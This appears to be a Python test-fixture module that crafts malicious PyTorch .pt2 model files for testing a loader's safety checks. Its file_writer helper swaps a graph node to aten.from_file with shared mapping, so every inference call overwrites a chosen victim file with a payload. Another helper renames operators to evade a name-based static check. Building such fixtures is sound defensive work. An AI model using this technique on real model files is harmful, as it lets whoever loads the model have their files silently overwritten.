"""Builders for .pt2 files whose graphs call torch operators with side effects, as an attacker
would write them: a plain ``torch.export`` program with one node's operator replaced in
models/model.json (torch.export itself cannot trace these operators)."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from helpers_crafted import rebuild
from torch import nn


class _Writer(nn.Module):
    """Scores 3 features; also fills a uint8 tensor of the payload's length and copies the
    payload (a buffer) into it. The crafted file turns that tensor into a mapped file."""

    def __init__(self, payload: bytes):
        super().__init__()
        self.lin = nn.Linear(3, 1)
        self.length = len(payload)
        self.register_buffer("payload", torch.tensor(list(payload), dtype=torch.uint8))

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        written = torch.full([self.length], 0, dtype=torch.uint8)
        written.copy_(self.payload)
        return self.lin(x) + written.sum() * 0


def _export(model: nn.Module, path: Path) -> Path:
    torch.export.save(torch.export.export(model.eval(), (torch.randn(4, 3),)), str(path))
    return path


def _edit_nodes(source: Path, target: Path, change: Callable[[dict[str, Any]], None]) -> Path:
    def edit(name: str, data: bytes) -> bytes:
        if not name.endswith("models/model.json"):
            return data
        program = json.loads(data)
        for node in program["graph_module"]["graph"]["nodes"]:
            change(node)
        return json.dumps(program).encode()
    return rebuild(source, target, edit)


def file_writer(folder: Path, victim: Path, payload: bytes) -> Path:
    """A scorer whose every call writes ``payload`` to ``victim``:
    ``aten.from_file(victim, shared=True, size=n)`` maps the file, and the graph's own
    ``copy_`` writes the payload through the mapping."""
    plain = _export(_Writer(payload), folder / "writer_plain.pt2")

    def change(node: dict[str, Any]) -> None:
        if node["target"] == "torch.ops.aten.full.default":
            node["target"] = "torch.ops.aten.from_file.default"
            node["inputs"] = [
                {"name": "filename", "arg": {"as_string": str(victim)}, "kind": 1},
                {"name": "shared", "arg": {"as_bool": True}, "kind": 1},
                {"name": "size", "arg": {"as_int": len(payload)}, "kind": 1},
                {"name": "dtype", "arg": {"as_scalar_type": 1}, "kind": 2},  # uint8
            ]
    return _edit_nodes(plain, folder / "writer.pt2", change)


def with_operator(folder: Path, old: str, new: str) -> Path:
    """The _Writer export with every call of operator ``old`` renamed ``new``, arguments
    unchanged: enough for the static check, which judges the operator by name."""
    plain = _export(_Writer(b"x"), folder / "plain.pt2")

    def change(node: dict[str, Any]) -> None:
        if node["target"] == old:
            node["target"] = new
    return _edit_nodes(plain, folder / f"{new.split('.')[3]}.pt2", change)


class _Dropout(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.lin = nn.Linear(3, 1)
        self.drop = nn.Dropout(0.5)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.drop(self.lin(x))


def dropout(folder: Path, train: bool) -> Path:
    """An eval-mode export (dropout with train=False), or the same file with train=True."""
    plain = _export(_Dropout(), folder / "dropout_eval.pt2")
    if not train:
        return plain

    def change(node: dict[str, Any]) -> None:
        if node["target"] == "torch.ops.aten.dropout.default":
            for argument in node["inputs"]:
                if argument["name"] == "train":
                    argument["arg"] = {"as_bool": True}
    return _edit_nodes(plain, folder / "dropout_train.pt2", change)


def expression(source: Path, target: Path, text: str) -> Path:
    """The first input's batch size given as the shape expression ``text``."""
    def edit(name: str, data: bytes) -> bytes:
        if name.endswith("models/model.json"):
            program = json.loads(data)
            values = program["graph_module"]["graph"]["tensor_values"]
            first = next(iter(values))
            values[first]["sizes"][0] = {"as_expr": {"expr_str": text, "hint": {"as_int": 4}}}
            return json.dumps(program).encode()
        return data
    return rebuild(source, target, edit)
